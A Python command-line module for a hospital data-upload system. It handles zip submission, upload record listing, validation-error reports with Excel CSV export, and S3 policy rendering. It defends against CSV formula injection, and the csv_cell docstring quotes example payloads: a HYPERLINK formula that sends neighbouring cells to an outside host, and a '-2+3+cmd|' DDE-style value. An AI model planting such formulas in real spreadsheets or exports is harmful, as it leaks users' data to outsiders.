"""``hqms submit``, ``hqms uploads`` and ``hqms errors``: the upload page and its record list.

Text output follows the national upload page (《发热门诊医疗服务监测系统数据对接 用户操作说明》): the record list's columns 文件名,
上传时间, 上传用户, 处理状态, 错误信息, 数据包记录数, 接口标准达标数, and an error list a data manager
can work through (file, row, column, rule, message, masked value). ``--json`` gives the same
data to programs; ``hqms errors --csv`` writes UTF-8 with BOM so Excel opens it correctly.

Names and values come from hospitals' files, so none reaches a screen or spreadsheet as is:
text output shows control and invisible characters escaped (:func:`printable`), JSON escapes
them too (:func:`to_json`), and CSV cells that a spreadsheet would run as formulas are made
text (:func:`csv_cell`).

Exit codes: 0 done (landed / duplicate / no errors), 1 refused or errors found,
2 usage problem (``UserError``), 3 object store unavailable (try again later).
"""
from __future__ import annotations

import argparse
import csv
import json
import re
import sys
import unicodedata
from collections.abc import Iterable
from dataclasses import asdict
from datetime import UTC, date, datetime, time
from pathlib import Path
from typing import TextIO

from hqms import config, spec
from hqms.config import CHINA_TZ
from hqms.textsafe import UNSEEN, printable
from hqms.objectstore import ObjectStoreUnavailable
from hqms.validators import canonical_code

EXIT_REFUSED = 1
EXIT_UNAVAILABLE = 3

STATUS_ZH = {"landed": "等待处理", "processing": "处理中", "processed": "处理完成",
             "partially_accepted": "部分达标", "rejected": "已拒收", "duplicate": "重复上传",
             "failed": "处理失败"}
ERROR_FIELDS = ("file_name", "row", "column", "rule", "severity", "message_zh", "message_en",
                "value_masked", "check_id")
CSV_HEADER = ("文件名 file", "行号 row", "数据项 column", "规则 rule", "级别 severity",
              "错误信息", "error message", "值（脱敏）value (masked)", "检查项 check")
#: First characters that make Excel, WPS and LibreOffice read a CSV cell as a formula (OWASP,
#: "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def register(sub: argparse._SubParsersAction) -> None:
    p = sub.add_parser("submit", help="check and upload a hospital's zip (the web upload page)")
    p.add_argument("zip", type=Path, help="the .zip of CSV files")
    p.add_argument("--org", required=True, type=canonical_code, help="医疗机构代码 of the submitting hospital")
    p.add_argument("--user", required=True, help="uploading user (上传用户)")
    p.add_argument("--stream", choices=spec.STREAMS, help="expected stream (refuse others)")
    p.add_argument("--received-at", metavar="ISO",
                   help="operator option: record this receipt time instead of now, to replay "
                        "historical uploads (no zone given = China time)")
    p.add_argument("--dry-run", action="store_true",
                   help="check the zip and validate every row; land and record nothing")
    p.add_argument("--json", action="store_true", help="machine-readable output")
    p.set_defaults(func=run_submit)

    p = sub.add_parser("uploads", help="upload record list (上传记录), newest first")
    p.add_argument("--org", type=canonical_code, help="only this 医疗机构代码")
    p.add_argument("--since", metavar="DATE", help="received on/after (ISO date or time; China time)")
    p.add_argument("--status", choices=tuple(STATUS_ZH))
    p.add_argument("--stream", choices=spec.STREAMS)
    p.add_argument("--limit", type=int)
    p.add_argument("--json", action="store_true", help="machine-readable output")
    p.set_defaults(func=run_uploads)

    p = sub.add_parser("errors", help="every error of one upload (上传错误信息)")
    p.add_argument("upload_id")
    p.add_argument("--json", action="store_true", help="machine-readable output")
    p.add_argument("--csv", type=Path, metavar="FILE", help="also write the list as CSV (Excel)")
    p.add_argument("--summary", action="store_true",
                   help="one line per (file, column, rule): how many rows and the first of them")
    p.set_defaults(func=run_errors)

    p = sub.add_parser("policy", help="S3 policy confining one hospital to its landing prefix")
    p.add_argument("--org", required=True, type=canonical_code, help="医疗机构代码")
    p.add_argument("--bucket", help="landing bucket (default: the configured one)")
    p.add_argument("--read-back", action="store_true",
                   help="also allow reading its own uploads (front-end machine verification)")
    p.set_defaults(func=run_policy)


def parse_time(text: str, what: str) -> datetime:
    """ISO date or date-time; without a zone it is China time (what hospitals mean)."""
    from hqms.errors import UserError

    try:
        if len(text) == 10:
            moment = datetime.combine(date.fromisoformat(text), time())
        else:
            moment = datetime.fromisoformat(text)
        moment = moment if moment.tzinfo else moment.replace(tzinfo=CHINA_TZ)
        moment.astimezone(UTC)  # year 1 or 9999 with a zone: out of range once in UTC
    except (ValueError, OverflowError):
        raise UserError(f"{what}: not an ISO date/time: {text!r} / 不是有效的日期时间") from None
    return moment


#: Receipt times ``--received-at`` may replay: from the system's first year of data to now.
EARLIEST_RECEIPT = datetime(2000, 1, 1, tzinfo=UTC)


def china_time(iso_utc: str) -> str:
    return datetime.fromisoformat(iso_utc).astimezone(CHINA_TZ).strftime("%Y-%m-%d %H:%M:%S")


# --- submit ---------------------------------------------------------------------------------------

def run_submit(args: argparse.Namespace) -> int:
    from hqms.errors import UserError
    from hqms.intake import submit as intake
    from hqms.intake.zipcheck import ZipRejected

    if not args.zip.is_file():
        raise UserError(f"no such file: {args.zip} / 文件不存在")
    try:
        intake.checked_uploader(args.user)
    except intake.InvalidUploader as exc:
        raise UserError(str(exc)) from None
    received = parse_time(args.received_at, "--received-at") if args.received_at else None
    if received and not EARLIEST_RECEIPT <= received <= datetime.now(UTC):
        raise UserError(f"--received-at {args.received_at}: a receipt time is between 2000-01-01 and now "
                        "/ 接收时间须在 2000-01-01 与当前时间之间")
    cfg = config.load()
    if args.dry_run:
        try:
            intake.preflight(args.zip, args.org, cfg, args.stream)
        except ZipRejected as rej:
            _print_refusal(args, rej.rule, rej.message_zh, rej.message_en, None)
            return EXIT_REFUSED
        return _dry_run(args)
    try:
        result = intake.submit(args.zip, args.org, args.user, stream=args.stream,
                               received_at=received, cfg=cfg)
    except ObjectStoreUnavailable as exc:
        _say(sys.stderr, f"hqms: 存储服务暂不可用，请稍后重试 / object store unavailable, try again "
                         f"later ({exc})")
        return EXIT_UNAVAILABLE
    if result.status == "rejected":
        _print_refusal(args, result.rule, result.message_zh, result.message_en, result)
        return EXIT_REFUSED
    if args.json:
        print(to_json(asdict(result)))
    else:
        _say(sys.stdout, result.upload_id)
        _say(sys.stderr, f"{result.message_zh} / {result.message_en}")
    return 0


def _print_refusal(args: argparse.Namespace, rule: str | None, zh: str, en: str, result) -> None:
    if args.json:
        data = asdict(result) if result else {"status": "rejected", "rule": rule,
                                              "message_zh": zh, "message_en": en}
        print(to_json(data))
        return
    _say(sys.stderr, f"拒收 / rejected [{rule}]: {zh}")
    _say(sys.stderr, f"  {en}")
    if result:
        _say(sys.stderr, f"  upload id: {result.upload_id}")


def _dry_run(args: argparse.Namespace) -> int:
    from hqms.ingest.validate import validate_zip  # heavy (DuckDB, GX): only when asked

    report = validate_zip(args.zip, args.org)
    errors = [_error_dict(e) for e in report.errors]
    n_errors = sum(1 for e in errors if e["severity"] == "error")
    if args.json:
        print(to_json({"dry_run": True, "record_count": report.record_count,
                       "conforming_count": report.conforming_count, "error_count": n_errors,
                       "errors": [_error_json(e) for e in errors]}))
    else:
        _say(sys.stdout, f"试运行（未上传）/ dry run, nothing uploaded: {args.zip.name}")
        _say(sys.stdout, f"数据包记录数 records: {report.record_count}    "
                         f"接口标准达标数 conforming: {report.conforming_count}    "
                         f"错误 errors: {n_errors}")
        print_errors(errors, sys.stdout)
    return EXIT_REFUSED if n_errors else 0


# --- uploads --------------------------------------------------------------------------------------

def run_uploads(args: argparse.Namespace) -> int:
    from hqms.registry import Registry

    since = parse_time(args.since, "--since") if args.since else None
    rows = Registry.from_config().list_uploads(org=args.org, since=since, status=args.status,
                                               stream=args.stream, limit=args.limit)
    if args.json:
        print(to_json([_upload_json(r) for r in rows]))
        return 0
    header = ("上传编号", "文件名", "上传时间", "上传用户", "处理状态", "错误信息", "数据包记录数",
              "接口标准达标数")
    table = [header] + [(
        r["upload_id"], r["file_name"], china_time(r["received_at"]), r["uploader"],
        STATUS_ZH.get(r["status"], r["status"]), _error_cell(r),
        "" if r["record_count"] is None else str(r["record_count"]),
        "" if r["conforming_count"] is None else str(r["conforming_count"]),
    ) for r in rows]
    _print_table(table, sys.stdout)
    return 0


def _error_cell(r: dict) -> str:
    if r["status"] in ("rejected", "partially_accepted"):
        return f"{r['message_zh'] or ''}（hqms errors {r['upload_id']}）"
    return r["message_zh"] or ""


def _upload_json(r: dict) -> dict:
    keys = ("upload_id", "stream", "org_code", "uploader", "channel", "file_name", "received_at",
            "status", "stage", "record_count", "conforming_count", "duplicate_of", "sha256",
            "size_bytes", "object_key", "attempts", "updated_at")
    data = {k: r[k] for k in keys}
    data["message"] = r["message_zh"]
    data["message_en"] = r["message_en"]
    return data


# --- errors ---------------------------------------------------------------------------------------

def run_errors(args: argparse.Namespace) -> int:
    from hqms.errors import UserError
    from hqms.registry import Registry

    registry = Registry.from_config()
    upload = registry.get(args.upload_id)
    if upload is None:
        raise UserError(f"unknown upload id {args.upload_id} / 无此上传编号")
    errors = [{k: e[k] for k in ERROR_FIELDS} for e in registry.errors(args.upload_id)]
    if args.csv:
        try:
            write_errors_csv(errors, args.csv)
        except OSError as exc:
            raise UserError(f"--csv: cannot write {args.csv}: {exc.strerror or exc} / 无法写入该文件") from None
    if args.json:
        shown = summarise_errors(errors) if args.summary else [_error_json(e) for e in errors]
        print(to_json(shown))
    else:
        _say(sys.stdout,
             f"{upload['upload_id']}  {upload['file_name']}  {china_time(upload['received_at'])}  "
             f"{STATUS_ZH.get(upload['status'], upload['status'])}  "
             f"记录数 {_n(upload['record_count'])}  达标数 {_n(upload['conforming_count'])}  "
             f"错误 {sum(e['severity'] == 'error' for e in errors)}  "
             f"警告 {sum(e['severity'] == 'warning' for e in errors)}")
        if args.summary:
            print_summary(summarise_errors(errors), sys.stdout)
        else:
            print_errors(errors, sys.stdout)
    return 0


def _n(value: int | None) -> str:
    return "-" if value is None else str(value)


def _error_dict(e) -> dict:
    return {k: getattr(e, k) for k in ERROR_FIELDS}


def _error_json(e: dict) -> dict:
    return {**e, "message": e["message_zh"]}


def print_errors(errors: Iterable[dict], out: TextIO) -> None:
    """One line per error: where (file, row, column), which rule, what to do, the masked value."""
    for e in errors:
        where = e["file_name"] or ""
        where += f"  第 {e['row']} 行" if e["row"] is not None else "  (整个文件 whole file)"
        if e["column"]:
            where += f"  {e['column']}"
        level = "" if e["severity"] == "error" else f" {e['severity']}"
        value = f"  值 value: {e['value_masked']}" if e["value_masked"] is not None else ""
        _say(out, f"{where}  [{e['rule']}{level}]  {e['message_zh']} / {e['message_en']}{value}")


#: Row numbers listed per summary line (the full list is ``hqms errors ID``).
SUMMARY_ROWS = 10


def summarise_errors(errors: Iterable[dict]) -> list[dict]:
    """One entry per (file, column, rule, check): a data manager with 3,000 errors of one kind
    needs the kind and where it starts, then the full list to fix them."""
    groups: dict[tuple, dict] = {}
    for e in errors:
        key = (e["file_name"] or "", e["column"] or "", e["rule"], e["check_id"] or "")
        g = groups.setdefault(key, {
            "file_name": e["file_name"], "column": e["column"], "rule": e["rule"],
            "severity": e["severity"], "check_id": e["check_id"], "count": 0, "first_rows": [],
            "message": e["message_zh"], "message_en": e["message_en"]})
        g["count"] += 1
        if e["row"] is not None and len(g["first_rows"]) < SUMMARY_ROWS:
            g["first_rows"].append(e["row"])
    return list(groups.values())


def print_summary(groups: Iterable[dict], out: TextIO) -> None:
    for g in groups:
        where = g["file_name"] or ""
        if g["column"]:
            where += f"  {g['column']}"
        level = "" if g["severity"] == "error" else f" {g['severity']}"
        rows = ""
        if g["first_rows"]:
            more = " …" if g["count"] > len(g["first_rows"]) else ""
            rows = f"  第 {', '.join(map(str, g['first_rows']))}{more} 行 rows"
        _say(out, f"{where}  [{g['rule']}{level}]  {g['count']:,} 处 times{rows}  "
                  f"{g['message']} / {g['message_en']}")


def write_errors_csv(errors: Iterable[dict], path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(CSV_HEADER)
        for e in errors:
            writer.writerow([csv_cell(e[k]) for k in ERROR_FIELDS])


def csv_cell(value: str | int | None) -> str | int:
    """One cell of the errors CSV, safe to open in a spreadsheet: text starting with one of
    :data:`FORMULA_STARTS` gets a leading ``'``, so the sheet shows it instead of running it
    (``=HYPERLINK("http://x/?"&A1,"…")`` in a failing value would send the neighbouring cells
    away). This applies to every text cell — values, column and file names, messages — and to
    text that looks like a negative number (``-5`` becomes ``'-5``), as OWASP recommends:
    telling numbers from formulas by their look is easy to get wrong (``-2+3+cmd|…``), and the
    value column is text the hospital sent, read by people, whom a visible ``'`` does not
    mislead. The row number is an ``int`` we write ourselves and stays a number; ``None`` is an
    empty cell."""
    if value is None:
        return ""
    if isinstance(value, int):
        return value
    return f"'{value}" if value.startswith(FORMULA_STARTS) else value


def _say(out: TextIO, line: str) -> None:
    """Write one line of text output. Every text printer here writes through this (or, for
    tables, :func:`printable` first), so no name or value reaches a terminal raw."""
    out.write(printable(line) + "\n")


def to_json(data: object) -> str:
    """``data`` as indented JSON, Chinese kept readable. json escapes C0 controls inside strings
    itself but writes DEL, C1 controls and format characters raw (``ensure_ascii=False``); they
    become ``\\uXXXX`` escapes, which decode to the same value. The line breaks json writes
    between members are the only raw controls left, and stay."""
    return UNSEEN.sub(_json_escape, json.dumps(data, ensure_ascii=False, indent=2))


def _json_escape(match: re.Match[str]) -> str:
    char = match.group()
    return char if char == "\n" else f"\\u{ord(char):04x}"


def _width(text: str) -> int:
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in text)


def _print_table(rows: list[tuple[str, ...]], out: TextIO) -> None:
    """Columns aligned on what is shown: cells are made :func:`printable` before measuring."""
    rows = [tuple(map(printable, row)) for row in rows]
    widths = [max(_width(row[i]) for row in rows) for i in range(len(rows[0]))]
    for row in rows:
        cells = [cell + " " * (w - _width(cell)) for cell, w in zip(row, widths)]
        out.write("  ".join(cells).rstrip() + "\n")


# --- policy ---------------------------------------------------------------------------------------

def run_policy(args: argparse.Namespace) -> int:
    from hqms.errors import UserError
    from hqms.intake.policy import render

    try:
        print(render(args.org, args.bucket, read_back=args.read_back))
    except ValueError as exc:
        raise UserError(str(exc)) from None
    return 0
